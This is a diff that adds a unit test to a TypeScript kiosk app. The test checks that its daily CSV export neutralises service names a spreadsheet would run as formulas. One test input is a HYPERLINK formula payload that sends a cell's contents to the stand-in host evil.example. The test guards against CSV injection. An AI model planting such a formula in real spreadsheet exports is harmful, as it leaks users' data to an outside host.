@@ -92,6 +92,36 @@ describe('the day CSV', () => {
     expect(rows.map((row) => row[0])).toEqual(['A-001', 'A-002', 'B-001', 'B-002', 'A-003', 'B-003']);
   });
 
+  it('neutralises service names a spreadsheet would run as formulas (=, +, -, @) with a leading apostrophe', () => {
+    const formulas = new Map<string, LocalizedText>([
+      ['passport', names('=HYPERLINK("http://evil.example/?"&A1;"Bax")', '+1+1', '-2+3', '@SUM(A1:A9)')],
+      ['tax', names('Vergi', 'Салық', 'Tax', 'Налог')],
+    ]);
+    const text = dayCsv({
+      tickets: DAY,
+      ratings: RATINGS,
+      serviceNames: formulas,
+      standardMinutes: STANDARDS,
+      timeZone: 'Asia/Baku',
+    });
+    // As a spreadsheet sees the raw file: no cell of the passport rows starts with a formula character.
+    const rawLines = text
+      .slice(1)
+      .split('\r\n')
+      .filter((line) => line.startsWith('A-'));
+    expect(rawLines).toHaveLength(3);
+    for (const line of rawLines) {
+      // The name in the visitor's language (az, kk or ru here), then the English one.
+      expect(line).toMatch(
+        /^A-\d{3},passport,("'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1;""Bax""\)"|'\+1\+1|'@SUM\(A1:A9\)),'-2\+3,/,
+      );
+      expect(line.split(',').every((cell) => !/^[=+\-@]/.test(cell.replace(/^"/, '')))).toBe(true);
+    }
+    // Read back by the kiosk's own reader, the names are as the catalog has them.
+    const rows = parseCsvText(text.slice(1));
+    expect(rows[1]!.slice(2, 4)).toEqual(['=HYPERLINK("http://evil.example/?"&A1;"Bax")', '-2+3']);
+  });
+
   it('names the file after the kiosk and the day, safe for any file system', () => {
     expect(dayCsvFileName('hall/1', '2026-11-20')).toBe('visits-hall_1-2026-11-20.csv');
   });
